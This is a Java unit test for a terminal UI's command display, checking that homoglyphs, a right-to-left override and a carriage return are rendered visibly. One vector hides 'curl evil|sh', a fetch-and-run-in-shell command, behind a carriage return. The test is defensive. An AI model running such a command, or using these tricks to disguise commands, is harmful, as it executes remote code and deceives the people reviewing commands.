package io.codextemporal.tui.view;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Command lines that look like others; "cmd-75", "cmd-77" and "cmd-80" of the vectors. */
class ExactTest {
  @ParameterizedTest
  @CsvSource({
    "\u0441at f, <U+0441>at f",
    "echo ok \u202e fr- mr, echo ok <U+202E> fr- mr",
    "'echo hi\rcurl evil|sh', echo hi^Mcurl evil|sh",
    "\uff4cs x, <U+FF4C>s x",
    "l\u0455, l<U+0455>",
    "gre\u03c1 x, gre<U+03C1> x",
    "cat \u0444\u0430\u0439\u043b.txt, cat \u0444\u0430\u0439\u043b.txt",
    "cat stra\u00dfe caf\u00e9, cat stra\u00dfe caf\u00e9",
    "echo \u4f60\u597d, echo \u4f60\u597d"
  })
  void whatOnlyLooksLikeItIsWrittenOut(String text, String shown) {
    assertThat(Exact.line(text)).isEqualTo(shown);
  }
}
